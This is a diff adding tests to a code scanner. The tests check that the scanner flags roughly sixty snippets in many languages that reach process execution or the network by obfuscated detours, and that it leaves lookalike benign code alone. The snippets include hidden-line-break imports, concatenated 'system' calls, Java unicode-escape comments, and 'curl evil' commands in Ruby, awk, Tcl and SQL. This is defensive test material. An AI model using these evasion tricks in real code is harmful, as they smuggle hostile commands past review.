@@ -173,6 +173,96 @@ def test_a_kind_that_is_not_known_is_not_looked_into(path: str) -> None:
     assert [found.kind for found in scan_code("x", path)] == ["unreadable"]
 
 
+DETOURS = [
+    ("a.py", "# x\rimport subprocess"),
+    ("a.py", "x = f'''\n# {__import__('os')}\n'''"),
+    ("a.py", "import random\nrandom._os.system('id')"),
+    ("a.py", "import glob\nx = glob.os"),
+    ("a.py", "x.system('id')"),
+    ("a.py", "import sys as s"),
+    ("a.py", "from glob import (os as o)"),
+    ("a.py", "s.modules['o' 's']"),
+    ("a.py", "a, b = 1, os"),
+    ("a.py", "m = os if 1 else 0"),
+    ("a.py", "d = {'a': os}"),
+    ("a.py", "inspect.currentframe().f_builtins['eval']('1')"),
+    ("a.py", "gc.get_objects()"),
+    ("a.py", "loop.subprocess_shell(p, 'id')"),
+    ("a.py", "import logging.handlers as h\nh.HTTPHandler('e', '/x')"),
+    ("a.py", "import pip\npip.main(['install', 'evil'])"),
+    ("a.py", "from aver.cli import main"),
+    ("a.js", "// x\rrequire('child_process')"),
+    ("a.js", "// x\u2028require('child_process')"),
+    ("a.js", "const f = fetch; f(x)"),
+    ("a.js", "fetch.call(0, x)"),
+    ("a.js", "const r = require; r('child' + '_process')"),
+    ("a.js", "require('../notes.txt')"),
+    ("a.js", "require('./logo.png')"),
+    ("a.js", "import x from './notes.txt'"),
+    ("a.js", "[]['constructor']['constructor'](x)()"),
+    ("a.rb", "system 'curl evil'"),
+    ("a.rb", "open('|curl evil')"),
+    ("a.rb", "send(:system, 'id')"),
+    ("a.rb", "require 'net/http'"),
+    ("a.pl", "exec 'id';"),
+    ("a.pl", "open(F, 'id|');"),
+    ("a.awk", 'BEGIN { "curl evil" | getline x }'),
+    ("a.awk", 'BEGIN { print 1 | "sh" }'),
+    ("a.tcl", "exec curl evil"),
+    ("a.lua", "local o=os; o.execute('id')"),
+    ("a.php", "$f='sys'.'tem'; $f('id');"),
+    ("a.jl", 'run(Cmd(["id"]))'),
+    ("a.r", "system2('id')"),
+    ("a.hs", 'import System.Process\nmain = callCommand "id"'),
+    ("a.clj", "(use 'clojure.java.shell)"),
+    ("a.erl", 't() -> os:cmd("id").'),
+    ("a.el", '(shell-command "id")'),
+    ("a.rkt", '(system "id")'),
+    ("a.cl", '(uiop:run-program "id")'),
+    ("a.nim", 'const x = staticExec("id")'),
+    ("a.d", 'executeShell("id");'),
+    ("a.zig", "std.process.Child.run(.{})"),
+    ("a.groovy", "'id'.execute()"),
+    ("a.scala", 'import sys.process._\n"id".!'),
+    ("a.go", "import e `os/exec`"),
+    ("a.go", 'import (\n\t// void f() { system("id"); }\n\t"C"\n)'),
+    ("a.rs", "use std::{process::{Command as C}};"),
+    ("a.c", "#define R(a, b) a##b"),
+    ("a.c", '#include "notes.txt"'),
+    ("a.java", '// \\u000aRuntime.getRuntime().exec("id");'),
+    ("a.java", 'URI.create("x").toURL().openStream();'),
+    ("a.swift", 'let s = """\n// \\(Process())\n"""'),
+    ("a.cs", 'var s = $@"\n// {System.Diagnostics.Process.Start(x)}\n";'),
+    ("a.sql", "COPY x TO PROGRAM 'curl evil';"),
+]
+
+
+@pytest.mark.parametrize(("path", "text"), DETOURS)
+def test_code_that_reaches_out_by_a_detour_is_found(path: str, text: str) -> None:
+    assert scan_code(f"{text}\n", path)
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "import platform\nsystem = platform.system()\nprint(self.os, os.path.sep)\nimport sys, os\n"),
+        ("a.js", "import logo from './logo.svg'\nconst a = require('./a')\nstore.fetchItems(x)\n// a plain comment\n"),
+        ("a.rb", "items.map { |x| \"#{x}\" }\nname = other || 'default'\n"),
+        ("a.c", '#include <stdio.h>\n#include "a.h"\n// a plain comment about exec\n'),
+        ("a.java", "statement.execute(sql);\n"),
+        ("a.rs", "use std::collections::HashMap;\n"),
+    ],
+)
+def test_code_that_looks_like_a_detour_is_left_alone(path: str, text: str) -> None:
+    assert scan_code(text, path) == ()
+
+
+def test_a_program_of_javascript_reads_no_file_by_an_error_in_it() -> None:
+    assert scan_javascript_program("require('./server.key')")
+    assert scan_javascript_program("arguments[1](name)")
+    assert not scan_javascript_program("console.log(require('./package.json').version, require('./src/a'))")
+
+
 def test_texts_beyond_the_bounds_are_not_looked_into() -> None:
     assert [found.kind for found in scan_code("x\n" * TEXT_MAX, "a.py")] == ["unreadable"]
     assert [found.kind for found in scan_code("x" + " " * LINE_MAX, "a.py")] == ["unreadable"]
